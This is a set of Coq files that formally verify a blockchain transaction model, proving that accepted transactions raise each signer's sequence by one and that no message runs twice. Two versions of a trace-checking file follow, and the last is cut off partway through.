    revert fs; induction ms as [|m r IH]; simpl; intros fs H.
    - inversion H. split; constructor.
    - destruct (sender_of m) as [a|] eqn:E; [|discriminate].
      destruct (sig_pass r) as [l|]; [|discriminate]. inversion H; subst.
      destruct (IH l eq_refl) as [-> HF]. split; [reflexivity|]. constructor; eauto.
  Qed.

  Lemma sig_pass_complete ms :
    Forall (fun m => exists a, sender_of m = Some a) ms -> sig_pass ms = Some (map sender_of ms).
  Proof.
    induction 1 as [|m r [a Ha] HF IH]; simpl; [reflexivity|]. rewrite Ha, IH. reflexivity.
  Qed.

  Lemma sender_admissible m a : sender_of m = Some a -> msg_admissible chain recover m /\ recover m = Some a.
  Proof.
    unfold Model.sender_of, msg_admissible. destruct (m_cid m) as [c|] eqn:E.
    - destruct (Z.eqb c chain) eqn:Ec; [|discriminate]. apply Z.eqb_eq in Ec. subst.
      intro H. split; [split; [eauto|right; reflexivity]|assumption].
    - intro H. split; [split; [eauto|left; reflexivity]|assumption].
  Qed.

  Lemma admissible_sender m : msg_admissible chain recover m -> exists a, sender_of m = Some a /\ recover m = Some a.
  Proof.
    unfold Model.sender_of, msg_admissible. intros [[a Ha] [Hc|Hc]]; rewrite Hc.
    - eauto.
    - rewrite Z.eqb_refl. eauto.
  Qed.

  (* ---------------------------------------------------------------- increment pass *)

  Lemma inc_pass_log ms : forall s fs s',
    inc_pass s fs ms = Some s' ->
    forall a, proj a (claims_of fs ms) = Nseq (s a) (length (proj a (claims_of fs ms))) /\
              s' a = (s a + N.of_nat (length (proj a (claims_of fs ms))))%N.
  Proof.
    induction ms as [|m r IH]; intros s fs s' H a.
    - destruct fs as [|[b|] fr]; simpl in H; try discriminate. inversion H; subst. simpl. split; [reflexivity|lia].
    - destruct fs as [|[b|] fr]; simpl in H; try discriminate.
      destruct (N.eqb (m_nonce m) (s b)) eqn:En; [|discriminate]. apply N.eqb_eq in En.
      specialize (IH _ _ _ H a). destruct IH as [IH1 IH2].
      cbn [claims_of]. unfold proj in *. cbn [filter fst]. destruct (Nat.eqb b a) eqn:E.
      + apply Nat.eqb_eq in E. subst b. rewrite upd_same in IH1, IH2.
        cbn [map snd length Nseq]. rewrite En. split; [f_equal; exact IH1|]. rewrite IH2. lia.
      + apply Nat.eqb_neq in E. rewrite upd_other in IH1, IH2 by congruence. split; assumption.
  Qed.

  Lemma inc_pass_untouched ms : forall s fs s' a,
    inc_pass s fs ms = Some s' -> ~ In a (map fst (claims_of fs ms)) -> s' a = s a.
  Proof.
    induction ms as [|m r IH]; intros s fs s' a H Hn.
    - destruct fs as [|[b|] fr]; simpl in H; try discriminate. inversion H; reflexivity.
    - destruct fs as [|[b|] fr]; simpl in H; try discriminate.
      destruct (N.eqb (m_nonce m) (s b)); [|discriminate].
      simpl in Hn. rewrite (IH _ _ _ a H) by tauto. apply upd_other. intro; subst; tauto.
  Qed.

  (** the fused loop as a relation: what "accepted" means, message by message *)
  Inductive accepts : state -> list emsg -> state -> Prop :=
  | acc_nil s : accepts s [] s
  | acc_cons s m a r s' :
      sender_of m = Some a -> m_nonce m = s a ->
      accepts (upd s a (N.succ (s a))) r s' -> accepts s (m :: r) s'.

  Lemma inc_pass_accepts ms : forall s s',
    inc_pass s (map sender_of ms) ms = Some s' <-> accepts s ms s' .
  Proof.
    induction ms as [|m r IH]; intros s s'; simpl.
    - split; intro H; [inversion H; constructor|inversion H; reflexivity].
    - split; intro H.
      + destruct (sender_of m) as [a|] eqn:E; [|discriminate].
        destruct (N.eqb (m_nonce m) (s a)) eqn:En; [|discriminate]. apply N.eqb_eq in En.
        econstructor; eauto. apply IH. exact H.
      + inversion H as [|s1 m1 a r1 s1' Hs Hn Hr]; subst. rewrite Hs, Hn, N.eqb_refl. apply IH. assumption.
  Qed.

  Lemma acc_pass_funded ms :
    Forall (fun m => exists a, sender_of m = Some a) ms ->
    acc_pass (map sender_of ms) ms = forallb m_funded ms.
  Proof. induction 1 as [|m r [a Ha] HF IH]; simpl; [reflexivity|]. rewrite Ha, IH. reflexivity. Qed.

  (** acceptance, general form *)
  Lemma ante_core_iff s ms s' :
    ante_core s ms = Some s' <->
    ms <> [] /\ forallb m_funded ms = true /\ accepts s ms s'.
  Proof.
    unfold ante_core. split.
    - destruct ms as [|m r]; [discriminate|].
      destruct (sig_pass (m :: r)) as [fs|] eqn:E; [|discriminate].
      apply sig_pass_spec in E as [-> HF]. rewrite acc_pass_funded by assumption.
      destruct (forallb m_funded (m :: r)) eqn:Ef; [|discriminate].
      intro H. split; [discriminate|]. split; [reflexivity|]. apply inc_pass_accepts. exact H.
    - intros [Hne [Hf Ha]]. destruct ms as [|m r]; [congruence|].
      assert (HF : Forall (fun m => exists a, sender_of m = Some a) (m :: r)).
      { clear -Ha. remember (m :: r) as l. clear Heql. induction Ha; constructor; eauto. }
      rewrite (sig_pass_complete _ HF), (acc_pass_funded _ HF), Hf. apply inc_pass_accepts. exact Ha.
  Qed.

  (* ---------------------------------------------------------------- msg server *)

  (** Commit of the objects a message merely touched: each is written back with the sequence it had *)
  Lemma commit_touched_id s ts x : commit_touched kinds load s ts x = s x.
  Proof.
    induction ts as [|t r IH]; simpl; [reflexivity|].
    unfold upd at 1. destruct (Nat.eqb x t) eqn:E; [|exact IH].
    apply Nat.eqb_eq in E. subst. apply Hload.
  Qed.

  (** one executed message: the signer's sequence becomes nonce+1, every other account keeps its own —
      whatever the execution touched *)
  Lemma exec_msg_seq s m s2 u c :
    exec_msg s m = Some (s2, u, c) ->
    exists b, sender_of m = Some b /\ forall x, s2 x = upd s b (N.succ (m_nonce m)) x.
  Proof.
    unfold Model.exec_msg. destruct (sender_of m) as [b|] eqn:Eb; [|destruct (m_exec m); discriminate].
    intro H. exists b. split; [reflexivity|]. intro x.
    assert (Hs : exists d, s2 = upd (commit_touched kinds load s d) b (N.succ (m_nonce m))).
    { destruct (m_exec m); try discriminate; inversion H;
        [exists (m_touch m)|exists (@nil nat)]; reflexivity. }
    destruct Hs as [d ->].
    destruct (Nat.eq_dec x b) as [->|Hn]; [rewrite !upd_same; reflexivity|].
    rewrite !upd_other by assumption. apply commit_touched_id.
  Qed.

  Lemma claims_senders ms : forall fs, fs = map sender_of ms -> Forall (fun m => exists a, sender_of m = Some a) ms ->
    forall a, In a (map fst (claims_of fs ms)) <-> exists m, In m ms /\ sender_of m = Some a.
  Proof.
    induction ms as [|m r IH]; intros fs -> HF a; simpl.
    - split; [tauto|intros [? [[] _]]].
    - inversion HF as [|? ? [b Hb] HF']; subst. rewrite Hb. simpl.
      rewrite (IH _ eq_refl HF' a). split.
      + intros [->|[m' [Hin Hs]]]; [exists m; auto|exists m'; auto].
      + intros [m' [[->|Hin] Hs]]; [left; congruence|right; eauto].
  Qed.

  (** the msg-server bracket SetNonce(n) … SetNonce(n+1) reproduces the ante sequences, whatever
      state the messages start from, for every sender of the tx *)
  Lemma bracket_restores ms : forall s0 s t t2 us cs,
    inc_pass s0 (map sender_of ms) ms = Some s ->
    run_msgs t ms = Some (t2, us, cs) ->
    forall a, (In a (map fst (claims_of (map sender_of ms) ms)) -> t2 a = s a) /\
              (~ In a (map fst (claims_of (map sender_of ms) ms)) -> t2 a = t a).
  Proof.
    induction ms as [|m r IH]; intros s0 s t t2 us cs Hi Hr a.
    - simpl in *. inversion Hr; subst. split; [tauto|reflexivity].
    - cbn [map] in Hi. cbn [Model.inc_pass] in Hi. cbn [Model.run_msgs] in Hr.
      destruct (sender_of m) as [b|] eqn:Eb; [|discriminate].
      destruct (N.eqb (m_nonce m) (s0 b)) eqn:En; [|discriminate]. apply N.eqb_eq in En.
      assert (Hr' : exists t1, (forall x, t1 x = upd t b (N.succ (m_nonce m)) x) /\
                    exists us' cs', run_msgs t1 r = Some (t2, us', cs')).
      { destruct (Model.exec_msg chain recover kinds load pre t m) as [[[t1 u1] c1]|] eqn:Ee; [|discriminate].
        destruct (exec_msg_seq _ _ _ _ _ Ee) as [b' [Hb' Hx]].
        assert (b' = b) by congruence. subst b'.
        destruct (Model.run_msgs chain recover kinds load pre t1 r) as [[[x y] z]|] eqn:Er; [|discriminate].
        inversion Hr; subst. exists t1. split; [exact Hx|eauto]. }
      destruct Hr' as [t1 [Ht1 [us' [cs' Hr']]]].
      destruct (IH _ _ _ _ _ _ Hi Hr' a) as [IH1 IH2].
      cbn [map claims_of]. rewrite Eb. cbn [map fst In].
      destruct (in_dec Nat.eq_dec a (map fst (claims_of (map sender_of r) r))) as [Hin|Hnin].
      + split; [intros _; auto|intro H; exfalso; apply H; right; exact Hin].
      + rewrite (IH2 Hnin). split.
        * intros [Hab|Hin]; [|tauto]. subst a.
          rewrite (inc_pass_untouched _ _ _ _ b Hi Hnin). rewrite Ht1, !upd_same. rewrite En. reflexivity.
        * intro H. rewrite Ht1. rewrite upd_other by (intro; subst; apply H; left; reflexivity). reflexivity.
  Qed.

  Lemma run_msgs_published ms : forall t t2 us cs,
    run_msgs t ms = Some (t2, us, cs) ->
    us = map m_uid ms /\
    forall u k, In (u, k) cs -> exists m, In m ms /\ m_uid m = u /\ m_nonce m = k /\ m_create m = true /\ m_exec m = ExecOk.
  Proof.
    induction ms as [|m r IH]; intros t t2 us cs H.
    - simpl in H. inversion H; subst. split; [reflexivity|intros ? ? []].
    - cbn [Model.run_msgs] in H. unfold Model.exec_msg in H.
      destruct (sender_of m) as [b|] eqn:Eb; [|destruct (m_exec m); discriminate].
      destruct (m_exec m) eqn:Ee; try discriminate;
      (destruct (Model.run_msgs chain recover kinds load pre _ r) as [[[x y] z]|] eqn:Er; [|discriminate]);
      inversion H; subst; destruct (IH _ _ _ _ Er) as [-> IHc]; (split; [reflexivity|]).
      + destruct (m_create m) eqn:Ec.
        * intros u k [Heq|Hin].
          -- inversion Heq; subst. exists m. rewrite upd_same. simpl. auto 8.
          -- destruct (IHc _ _ Hin) as [m' [? ?]]. exists m'; simpl; tauto.
        * intros u k Hin. destruct (IHc _ _ Hin) as [m' [? ?]]. exists m'; simpl; tauto.
      + intros u k Hin. destruct (IHc _ _ Hin) as [m' [? ?]]. exists m'; simpl; tauto.
  Qed.

  (* ---------------------------------------------------------------- one delivered tx *)

  (** [step_ok] for every account at once *)
  Definition step_all (b : state) (t : tx) (r : result) (after : state) : Prop :=
    (r_accepted r = true ->
       tx_admissible chain recover t /\
       forall a, proj a (tx_claims t) = Nseq (b a) (length (proj a (tx_claims t))) /\
                 after a = (b a + N.of_nat (length (proj a (tx_claims t))))%N) /\
    (r_accepted r = false -> (forall a, after a = b a) /\ r_executed r = [] /\ r_created r = []) /\
    executed_ok t r /\ created_ok t r.

  Lemma step_all_ok A b t r after : step_all b t r after -> step_ok chain recover A b t r after.
  Proof.
    intros [H1 [H2 [H3 H4]]]. split; [|split; [|split]]; auto.
    - intro Ha. destruct (H1 Ha) as [Hx Hy]. split; auto. intros a _. apply Hy.
    - intro Ha. destruct (H2 Ha) as [Hx Hy]. split; auto.
  Qed.

  Lemma deliver_step ds s t s' r :
    chain_wf ds = true -> deliver ds s t = (s', r) -> step_all s t r s'.
  Proof.
    intros Hwf H. destruct t as [ms|a q ek ok]; cbn [Model.deliver] in H.
    - rewrite (ante_wf _ _ _ Hwf) in H.
      destruct (ante_core s ms) as [s1|] eqn:Ea.
      + (* accepted *)
        pose proof Ea as Ea'. unfold ante_core in Ea'. destruct ms as [|m0 r0]; [discriminate|].
        destruct (sig_pass (m0 :: r0)) as [fs|] eqn:Es; [|discriminate].
        destruct (acc_pass fs (m0 :: r0)); [|discriminate].
        pose proof (sig_pass_spec _ _ Es) as [Hfs HF].
        pose proof (inc_pass_log _ _ _ _ Ea') as Hlog.
        assert (Hadm : tx_admissible chain recover (TxEth (m0 :: r0))).
        { split; [discriminate|]. eapply Forall_impl; [|exact HF]. intros m [a Ha]. apply (sender_admissible _ _ Ha). }
        assert (Hcl : tx_claims (TxEth (m0 :: r0)) = claims_of fs (m0 :: r0)).
        { unfold Spec.tx_claims. rewrite Es. reflexivity. }
        destruct (run_msgs s1 (m0 :: r0)) as [[[s2 us] cs]|] eqn:Er.
        * inversion H; subst s' r. clear H.
          destruct (run_msgs_published _ _ _ _ _ Er) as [Hus Hcs].
          subst fs.
          split; [|split; [|split]]; cbn [r_accepted r_executed r_created].
          -- intros _. split; [exact Hadm|]. intro a. rewrite Hcl.
             destruct (Hlog a) as [L1 L2]. split; [exact L1|].
             destruct (bracket_restores _ _ _ _ _ _ _ Ea' Er a) as [B1 B2].
             destruct (in_dec Nat.eq_dec a (map fst (claims_of (map sender_of (m0 :: r0)) (m0 :: r0)))) as [Hin|Hnin].
             ++ rewrite (B1 Hin). exact L2.
             ++ rewrite (B2 Hnin). exact L2.
          -- discriminate.
          -- right. exact Hus.
          -- intros u k Hin. destruct (Hcs _ _ Hin) as [m [? [? [? _]]]]. exists m. auto.
        * inversion H; subst s' r. clear H.
          split; [|split; [|split]]; cbn [r_accepted r_executed r_created accepted_only].
          -- intros _. split; [exact Hadm|]. intro a. rewrite Hcl. apply Hlog.
          -- discriminate.
          -- left. reflexivity.
          -- intros u k [].
      + inversion H; subst s' r. split; [|split; [|split]]; cbn.
        * discriminate.
        * intros _. auto.
        * left. reflexivity.
        * intros u k [].
    - destruct (negb ek && N.eqb q (s a)) eqn:E; inversion H; subst s' r; clear H.
      + apply andb_true_iff in E as [E1 E2]. apply negb_true_iff in E1. apply N.eqb_eq in E2. subst q.
        split; [|split; [|split]]; cbn; try reflexivity; try discriminate.
        intros _. split; [exact E1|]. intro b. unfold proj. cbn [filter fst].
        destruct (Nat.eqb a b) eqn:Eab.
        * apply Nat.eqb_eq in Eab. subst b. cbn. rewrite upd_same. split; [reflexivity|lia].
        * apply Nat.eqb_neq in Eab. cbn. rewrite upd_other by congruence. split; [reflexivity|lia].
      + split; [|split; [|split]]; cbn; try reflexivity; try discriminate. intros _. auto.
  Qed.

  (* ---------------------------------------------------------------- histories *)

  Fixpoint trace (ds : list dec) (s : state) (ts : list tx) : list gstep :=
    match ts with
    | [] => []
    | t :: r => let '(s1, x) := deliver ds s t in (t, x, s1) :: trace ds s1 r
    end.

  Fixpoint final (s0 : state) (tr : list gstep) : state :=
    match tr with [] => s0 | g :: r => final (snd g) r end.

  Lemma trace_run ds ts : forall s, map (fun g => snd (fst g)) (trace ds s ts) = snd (run chain recover kinds load pre ds s ts).
  Proof.
    induction ts as [|t r IH]; intro s; simpl; [reflexivity|].
    destruct (deliver ds s t) as [s1 x] eqn:E. simpl.
    destruct (run chain recover kinds load pre ds s1 r) as [s2 xs] eqn:Er. simpl. f_equal.
    rewrite IH, Er. reflexivity.
  Qed.

  Lemma trace_steps_ok A ds : chain_wf ds = true -> forall ts s, steps_ok chain recover A s (trace ds s ts).
  Proof.
    intros Hwf ts; induction ts as [|t r IH]; intro s; simpl; [exact I|].
    destruct (deliver ds s t) as [s1 x] eqn:E. simpl. split; [|apply IH].
    apply step_all_ok. eapply deliver_step; eauto.
  Qed.

  (** claims of the accepted txs of a trace, in order *)
  Definition acc_claims (tr : list gstep) : list (nat * N) :=
    concat (map (fun g => if r_accepted (snd (fst g)) then tx_claims (fst (fst g)) else []) tr).

  (** per account, the sequence numbers accepted over a whole history are consecutive from the
      initial sequence, and the final sequence is the initial one plus their number *)
  Lemma history_consecutive ds : chain_wf ds = true -> forall ts s a,
    proj a (acc_claims (trace ds s ts)) = Nseq (s a) (length (proj a (acc_claims (trace ds s ts)))) /\
    final s (trace ds s ts) a = (s a + N.of_nat (length (proj a (acc_claims (trace ds s ts)))))%N.
  Proof.
    intros Hwf ts; induction ts as [|t r IH]; intros s a.
    - simpl. split; [reflexivity|lia].
    - cbn [trace]. destruct (deliver ds s t) as [s1 x] eqn:E.
      pose proof (deliver_step _ _ _ _ _ Hwf E) as [Hacc [Hrej _]].
      destruct (IH s1 a) as [IH1 IH2].
      unfold acc_claims. cbn [map concat fst snd]. fold (acc_claims (trace ds s1 r)).
      rewrite proj_app, app_length.
      assert (Hfin : final s ((t, x, s1) :: trace ds s1 r) a = final s1 (trace ds s1 r) a).
      { reflexivity. }
      rewrite Hfin, IH2.
      destruct (r_accepted x) eqn:Ex.
      + destruct (Hacc eq_refl) as [_ Hadv]. destruct (Hadv a) as [H1 H2].
        rewrite Nseq_app. rewrite <- H1. rewrite <- H2. rewrite <- IH1. split; [reflexivity|]. rewrite H2. lia.
      + destruct (Hrej eq_refl) as [Hsame _]. change (proj a []) with (@nil N). cbn [app length Nat.add].
        rewrite <- (Hsame a). split; [exact IH1|reflexivity].
  Qed.

  Lemma acc_claims_NoDup ds ts s : chain_wf ds = true -> NoDup (acc_claims (trace ds s ts)).
  Proof.
    intro Hwf. apply NoDup_by_key. intro a.
    destruct (history_consecutive ds Hwf ts s a) as [H _]. rewrite H. apply Nseq_NoDup.
  Qed.

  (** accepted Ethereum messages of a trace, with the claim each one makes *)
  Definition acc_msgs (tr : list gstep) : list emsg :=
    concat (map (fun g => match fst (fst g) with
                          | TxEth ms => if r_accepted (snd (fst g)) then ms else []
                          | _ => [] end) tr).

  Definition claimo (m : emsg) : option nat * N := (sender_of m, m_nonce m).

  Lemma claims_of_claimo ms : Forall (fun m => exists a, sender_of m = Some a) ms ->
    map (fun p => (Some (fst p), snd p)) (claims_of (map sender_of ms) ms) = map claimo ms.
  Proof.
    induction 1 as [|m r [a Ha] HF IH]; [reflexivity|].
    cbn [map claims_of]. rewrite Ha. cbn [map fst snd]. rewrite IH. unfold claimo at 2. rewrite Ha. reflexivity.
  Qed.

  Lemma acc_msgs_claims ds : chain_wf ds = true -> forall ts s,
    sublist (map claimo (acc_msgs (trace ds s ts)))
            (map (fun p => (Some (fst p), snd p)) (acc_claims (trace ds s ts))).
  Proof.
    intros Hwf ts; induction ts as [|t r IH]; intro s; [constructor|].
    cbn [trace]. destruct (deliver ds s t) as [s1 x] eqn:E.
    unfold acc_msgs, acc_claims. cbn [map concat fst snd].
    fold (acc_msgs (trace ds s1 r)). fold (acc_claims (trace ds s1 r)).
    rewrite !map_app. apply sublist_app; [|apply IH].
    destruct t as [ms|a q ek ok]; [|apply sublist_nil_l].
    destruct (r_accepted x) eqn:Ex; [|constructor].
    (* accepted eth tx: claims are exactly the claims of its messages *)
    cbn [Model.deliver] in E. rewrite (ante_wf _ _ _ Hwf) in E.
    destruct (ante_core s ms) as [s2|] eqn:Ea.
    - unfold ante_core in Ea. destruct ms as [|m0 r0]; [discriminate|].
      unfold Spec.tx_claims. destruct (sig_pass (m0 :: r0)) as [fs|] eqn:Es; [|discriminate].
      apply sig_pass_spec in Es as [-> HF]. rewrite (claims_of_claimo _ HF). apply sublist_refl.
    - inversion E; subst. discriminate.
  Qed.

  Lemma executed_sublist ds : forall ts s,
    sublist (all_executed (trace ds s ts)) (map m_uid (acc_msgs (trace ds s ts))).
  Proof.
    induction ts as [|t r IH]; intro s; [constructor|].
    cbn [trace]. destruct (deliver ds s t) as [s1 x] eqn:E.
    unfold all_executed, acc_msgs. cbn [map concat fst snd].
    fold (all_executed (trace ds s1 r)). fold (acc_msgs (trace ds s1 r)).
    rewrite map_app. apply sublist_app; [|apply IH].
    destruct t as [ms|a q ek ok]; cbn [Model.deliver] in E.
    - destruct (ante ds s ms) as [s2|].
      + destruct (run_msgs s2 ms) as [[[s3 us] cs]|] eqn:Er; inversion E; subst; cbn.
        * destruct (run_msgs_published _ _ _ _ _ Er) as [-> _]. apply sublist_refl.
        * apply sublist_nil_l.
      + inversion E; subst. cbn. constructor.
    - destruct (negb ek && N.eqb q (s a)); inversion E; subst; cbn; constructor.
  Qed.

  Lemma acc_msgs_incl ds : forall ts s m, In m (acc_msgs (trace ds s ts)) ->
    exists ms, In (TxEth ms) ts /\ In m ms.
  Proof.
    induction ts as [|t r IH]; intros s m H; [destruct H|].
    cbn [trace] in H. destruct (deliver ds s t) as [s1 x] eqn:E.
    unfold acc_msgs in H. cbn [map concat fst snd] in H. fold (acc_msgs (trace ds s1 r)) in H.
    apply in_app_or in H as [H|H].
    - destruct t as [ms|]; [|destruct H]. destruct (r_accepted x); [|destruct H].
      exists ms. split; [left; reflexivity|assumption].
    - destruct (IH _ _ H) as [ms [? ?]]. exists ms. split; [right; assumption|assumption].
  Qed.

  (** the hash of a signed transaction determines its signer and its nonce *)
  Definition hash_binding (ts : list tx) : Prop :=
    forall ms ms' m m', In (TxEth ms) ts -> In (TxEth ms') ts -> In m ms -> In m' ms' ->
      m_uid m = m_uid m' -> sender_of m = sender_of m' /\ m_nonce m = m_nonce m'.

  Lemma executed_NoDup ds ts s :
    chain_wf ds = true -> hash_binding ts -> NoDup (all_executed (trace ds s ts)).
  Proof.
    intros Hwf Hb.
    eapply sublist_NoDup; [apply executed_sublist|].
    apply NoDup_map_binding with (f := claimo).
    - eapply sublist_NoDup; [apply acc_msgs_claims; assumption|].
      apply NoDup_map_inj; [|apply acc_claims_NoDup; assumption].
      intros [a n] [b k]; simpl. intro H; inversion H; reflexivity.
    - intros m m' Hm Hm' Hu.
      destruct (acc_msgs_incl _ _ _ _ Hm) as [ms [H1 H2]].
      destruct (acc_msgs_incl _ _ _ _ Hm') as [ms' [H1' H2']].
      destruct (Hb _ _ _ _ H1 H1' H2 H2' Hu) as [Hs Hn]. unfold claimo. rewrite Hs, Hn. reflexivity.
  Qed.

  Theorem model_satisfies_P A ds s ts :
    chain_wf ds = true -> hash_binding ts -> P chain recover A s (trace ds s ts).
  Proof.
    intros Hwf Hb. split; [apply trace_steps_ok; assumption|apply executed_NoDup; assumption].
  Qed.

  (* ---------------------------------------------------------------- exported forms *)

  (** single message: accepted iff signature recovers, chain id (if any) is this chain's, the
      other checks pass, and nonce == current sequence; the sequence then goes up by one *)
  Lemma accept_iff_single ds s m s' :
    chain_wf ds = true ->
    (ante ds s [m] = Some s' <->
     exists a, recover m = Some a /\ (m_cid m = None \/ m_cid m = Some chain) /\ m_funded m = true /\
               m_nonce m = s a /\ s' = upd s a (N.succ (s a))).
  Proof.
    intro Hwf. rewrite (ante_wf _ _ _ Hwf), ante_core_iff. split.
    - intros [_ [Hf Ha]]. inversion Ha as [|s1 m1 a r1 s1' Hs Hn Hr]; subst. inversion Hr; subst.
      destruct (sender_admissible _ _ Hs) as [[_ Hc] Hrec]. simpl in Hf. rewrite andb_true_r in Hf.
      exists a. repeat split; auto.
    - intros [a [Hr [Hc [Hf [Hn ->]]]]].
      destruct (admissible_sender m) as [b [Hb Hb']]; [split; eauto|].
      assert (b = a) by congruence. subst b.
      split; [discriminate|]. split; [simpl; rewrite Hf; reflexivity|].
      econstructor; eauto. constructor.
  Qed.

  (** acceptance of a multi-message tx is atomic and message by message on the running sequence *)
  Lemma accept_iff_general ds s ms s' :
    chain_wf ds = true ->
    (ante ds s ms = Some s' <-> ms <> [] /\ forallb m_funded ms = true /\ accepts s ms s').
  Proof. intro Hwf. rewrite (ante_wf _ _ _ Hwf). apply ante_core_iff. Qed.

  Lemma rejected_changes_nothing ds s t :
    r_accepted (snd (deliver ds s t)) = false -> fst (deliver ds s t) = s.
  Proof.
    destruct t as [ms|a q ek ok]; cbn [Model.deliver].
    - destruct (ante ds s ms) as [s1|]; [|reflexivity].
      destruct (run_msgs s1 ms) as [[[? ?] ?]|]; cbn; discriminate.
    - destruct (negb ek && N.eqb q (s a)); cbn; [discriminate|reflexivity].
  Qed.

  (** every accepted message / Cosmos tx raises the signer's sequence by exactly one, whether or
      not execution succeeds *)
  Lemma sequence_plus_one_per_accepted ds s t :
    chain_wf ds = true -> r_accepted (snd (deliver ds s t)) = true ->
    forall a, fst (deliver ds s t) a = (s a + N.of_nat (length (proj a (tx_claims t))))%N.
  Proof.
    intros Hwf Hacc a. destruct (deliver ds s t) as [s' r] eqn:E.
    destruct (deliver_step _ _ _ _ _ Hwf E) as [H _]. destruct (H Hacc) as [_ Hadv]. apply Hadv.
  Qed.

  (** an account's sequence is moved by its own signed transactions only: whatever a tx of other signers
      does to it while executing (pays it, calls it, names it selfdestruct beneficiary), whatever its auth
      account type, its sequence after the tx is the one before *)
  Lemma only_own_txs_move_sequence ds s t a :
    chain_wf ds = true -> proj a (tx_claims t) = [] -> fst (deliver ds s t) a = s a.
  Proof.
    intros Hwf Hp. destruct (r_accepted (snd (deliver ds s t))) eqn:E.
    - rewrite (sequence_plus_one_per_accepted ds s t Hwf E a), Hp. simpl. lia.
    - rewrite (rejected_changes_nothing ds s t E). reflexivity.
  Qed.

  (** a contract is created at the address derived from the signer and the TRANSACTION's nonce,
      also when the account sequence already ran ahead (several messages in one tx) *)
  Lemma created_at_tx_nonce ds s ms s' r :
    deliver ds s (TxEth ms) = (s', r) ->
    forall u k, In (u, k) (r_created r) ->
      exists m, In m ms /\ m_uid m = u /\ m_nonce m = k /\ m_create m = true /\ m_exec m = ExecOk.
  Proof.
    cbn [Model.deliver]. destruct (ante ds s ms) as [s1|].
    - destruct (run_msgs s1 ms) as [[[s2 us] cs]|] eqn:Er; intro H; inversion H; subst; cbn.
      + apply (run_msgs_published _ _ _ _ _ Er).
      + intros ? ? [].
    - intro H; inversion H; subst. intros ? ? [].
  Qed.

  (** at most once: no uid is executed twice in any history *)
  Lemma at_most_once ds s ts u :
    chain_wf ds = true -> hash_binding ts -> (count_occ Nat.eq_dec (all_executed (trace ds s ts)) u <= 1)%nat.
  Proof.
    intros Hwf Hb. apply NoDup_count_occ. apply executed_NoDup; assumption.
  Qed.
End Proofs.
