(** C07 — proofs (placeholder for the vertical slice; replaced below) *)
From Coq Require Import List Bool Arith NArith ZArith Lia.
Import ListNotations.
Require Import Nib.C07.Model Nib.C07.Spec Nib.C07.Facts.
