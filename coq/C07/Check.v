(** C07 — evaluation of implementation traces: correspondence (model vs observed) and the
    property predicate [Pb] on the observed trace itself. *)
From Coq Require Import List Bool Arith NArith ZArith.
Import ListNotations.
Require Import Nib.C07.Model Nib.C07.Spec.

(** observed accounts: EVM accounts of keys 0..3, Cosmos (secp256k1) accounts of the same keys *)
Definition accts : list nat := [0; 1; 2; 3; 10; 11; 12; 13].

Record otx := { o_tx : tx; o_res : result; o_seqs : list N }.

(** this chain's EIP-155 id, the auth account types of [accts] at the start of the history, blocks of
    delivered txs with what the implementation published *)
Definition case : Type := (Z * list akind) * list (list otx).
Definition c_chain (c : case) : Z := fst (fst c).

(** account types: the listed ones for [accts], EthAccount for everything else (accounts the chain creates
    itself are EthAccounts) *)
Fixpoint kinds_of (A : list nat) (ks : list akind) : nat -> akind :=
  match A, ks with
  | a :: ar, k :: kr => fun x => if Nat.eqb x a then k else kinds_of ar kr x
  | _, _ => fun _ => KEth
  end.
Definition c_kinds (c : case) : nat -> akind := kinds_of accts (snd (fst c)).

Fixpoint state_of (A : list nat) (seqs : list N) : state :=
  match A, seqs with
  | a :: ar, v :: vr => upd (state_of ar vr) a v
  | _, _ => init
  end.

Definition pairs_eqb (a b : list (nat * N)) : bool :=
  natlist_eqb (map fst a) (map fst b) && Nlist_eqb (map snd a) (map snd b).

Definition result_eqb (a b : result) : bool :=
  Bool.eqb (r_accepted a) (r_accepted b) && natlist_eqb (r_executed a) (r_executed b) &&
  pairs_eqb (r_created a) (r_created b).

(** run the model alongside the observed trace *)
Fixpoint agree (chain : Z) (kinds : nat -> akind) (ld : loader) (pr : prefn) (ds : list dec) (s : state) (os : list otx) : bool :=
  match os with
  | [] => true
  | o :: r =>
      let '(s1, x) := deliver chain recover_oracle kinds ld pr ds s (o_tx o) in
      result_eqb x (o_res o) && Nlist_eqb (map s1 accts) (o_seqs o) && agree chain kinds ld pr ds s1 r
  end.

(** [mismatch] runs the model with the loader the theorems are proved for ([load_std]; Gen/C07Oblig.v checks
    that it is the one re-extracted from /repo); [mismatch_with] lets a model sweep try another loader *)
Definition mismatch_with (ld : loader) (pr : prefn) (ds : list dec) (c : case) : bool :=
  negb (agree (c_chain c) (c_kinds c) ld pr ds init (concat (snd c))).

(** the shape of ApplyEvmMsg in /repo (pre-execution nonce: creation -> n, call -> n+1) *)
Definition mismatch (ds : list dec) (c : case) : bool := mismatch_with load_std pre_std ds c.

Definition gtrace (os : list otx) : list gstep :=
  map (fun o => (o_tx o, o_res o, state_of accts (o_seqs o))) os.

Definition violates (c : case) : bool :=
  negb (Pb (c_chain c) recover_oracle accts init (gtrace (concat (snd c)))).
