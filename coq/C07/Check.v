(** C07 — evaluation of implementation traces: correspondence (model vs observed) and the
    property predicate [Pb] on the observed trace itself. *)
From Coq Require Import List Bool Arith NArith ZArith.
Import ListNotations.
Require Import Nib.C07.Model Nib.C07.Spec.

(** observed accounts: EVM accounts of keys 0..3, Cosmos (secp256k1) accounts of the same keys *)
Definition accts : list nat := [0; 1; 2; 3; 10; 11; 12; 13].

Record otx := { o_tx : tx; o_res : result; o_seqs : list N }.

(** this chain's EIP-155 id, blocks of delivered txs with what the implementation published *)
Definition case : Type := Z * list (list otx).

Fixpoint state_of (A : list nat) (seqs : list N) : state :=
  match A, seqs with
  | a :: ar, v :: vr => upd (state_of ar vr) a v
  | _, _ => init
  end.

Definition pairs_eqb (a b : list (nat * N)) : bool :=
  natlist_eqb (map fst a) (map fst b) && Nlist_eqb (map snd a) (map snd b).

Definition result_eqb (a b : result) : bool :=
  Bool.eqb (r_accepted a) (r_accepted b) && natlist_eqb (r_executed a) (r_executed b) &&
  pairs_eqb (r_created a) (r_created b).

(** run the model alongside the observed trace *)
Fixpoint agree (chain : Z) (ds : list dec) (s : state) (os : list otx) : bool :=
  match os with
  | [] => true
  | o :: r =>
      let '(s1, x) := deliver chain recover_oracle ds s (o_tx o) in
      result_eqb x (o_res o) && Nlist_eqb (map s1 accts) (o_seqs o) && agree chain ds s1 r
  end.

Definition mismatch (ds : list dec) (c : case) : bool :=
  negb (agree (fst c) ds init (concat (snd c))).

Definition gtrace (os : list otx) : list gstep :=
